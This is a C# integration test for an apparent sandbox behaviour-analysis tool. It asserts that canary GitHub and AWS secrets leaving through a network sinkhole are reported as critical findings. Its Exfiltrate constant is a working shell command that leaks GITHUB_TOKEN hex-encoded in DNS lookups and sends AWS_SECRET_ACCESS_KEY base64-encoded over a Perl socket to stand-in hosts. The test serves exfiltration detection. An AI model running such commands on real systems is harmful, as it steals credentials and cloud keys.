using DynamicProbe.Core.Analysis;
using DynamicProbe.Core.Findings;
using DynamicProbe.Core.Pipeline;
using DynamicProbe.Core.Policy;
using DynamicProbe.Core.Scenarios;
using DynamicProbe.Integration.Tests.Honeytokens;
using DynamicProbe.Sandbox.Docker;
using DynamicProbe.Sandbox.Network;
using DynamicProbe.Sandbox.Policy;
using DynamicProbe.Sandbox.Running;

// In the network tests' namespace, for the catcher their set-up fixture publishes once (PublishedCatcher).
namespace DynamicProbe.Integration.Tests.Network;

/// <summary>Canary variables leaving through the sinkhole, hex in a DNS name and base64 in a request, named with their destinations.</summary>
[TestFixture]
[NonParallelizable]
public sealed class SinkholeExfiltrationTests
{
    private const string Exfiltrate =
        "h=$(printf %s \"$GITHUB_TOKEN\" | od -An -tx1 | tr -d ' \\n'); "
        + "getent hosts \"$(echo $h | cut -c1-40).$(echo $h | cut -c41-80).t.exfil.example.org\" || true; "
        + "K=$(printf %s \"$AWS_SECRET_ACCESS_KEY\" | base64) perl -MIO::Socket::INET -e '"
        + "$s = IO::Socket::INET->new(PeerAddr => q{collect.example.net:80}) or die qq{connect: $!}; "
        + "print $s qq{POST /u HTTP/1.1\\r\\nHost: collect.example.net\\r\\nContent-Length: 60\\r\\n\\r\\nk=$ENV{K}}; print scalar <$s>'";

    [Test]
    public async Task Hex_in_a_dns_name_and_base64_in_a_request_are_critical_findings_naming_the_destination()
    {
        using var engine = DockerEngine.FromEnvironment();
        var monitor = SharedMonitor.Monitor;
        var runner = new SandboxRunner(engine.Client, monitor, new SandboxRunnerOptions(Sinkhole: new SinkholePodOptions(CatcherFolder: PublishedCatcher.Folder)));
        var executor = new ScenarioExecutor(new NoBuilds(), runner, new ImageAllowanceSource(engine.Client), new BehaviourAnalyzer(RuleBook.BuiltIn()));
        var scenario = HoneytokenScenarios.Shell(Exfiltrate);
        scenario = scenario with { Sandbox = scenario.Sandbox with { Network = NetworkMode.Sinkhole } };

        var result = await executor.ExecuteAsync(scenario, CancellationToken.None);

        Assert.That(result.Steps.Single().Succeeded, Is.True, result.Steps.Single().Detail + result.Steps.Single().Stderr);
        var leaks = result.Findings.Where(f => f.Rule == HoneytokenAnalyzer.ExfiltrationRule).Select(f => f.Message).ToList();
        Assert.That(leaks, Has.Some.Match(
            @"^GitHub token from the environment variable GITHUB_TOKEN sent hex-encoded in the DNS name [0-9a-f]{40}\.[0-9a-f]{40}\.t\.exfil\.example\.org \(zone t\.exfil\.example\.org\) by /usr/bin/getent$"),
            string.Join("\n", leaks));
        Assert.That(leaks, Has.Some.Match(
            @"^AWS secret access key from the environment variable AWS_SECRET_ACCESS_KEY sent base64-encoded over TCP to collect\.example\.net:80 \(198\.1[89]\.\d+\.\d+\) by /usr/bin/perl$"),
            string.Join("\n", leaks));
        Assert.That(result.Findings.Where(f => f.Rule == HoneytokenAnalyzer.ExfiltrationRule).Select(f => f.Severity), Is.All.EqualTo(Severity.Critical));
    }

    private sealed class NoBuilds : ITargetBuilder
    {
        public Task<BuildOutcome> BuildAsync(Scenario scenario, CancellationToken cancellationToken) =>
            throw new InvalidOperationException("command targets are not built");
    }
}
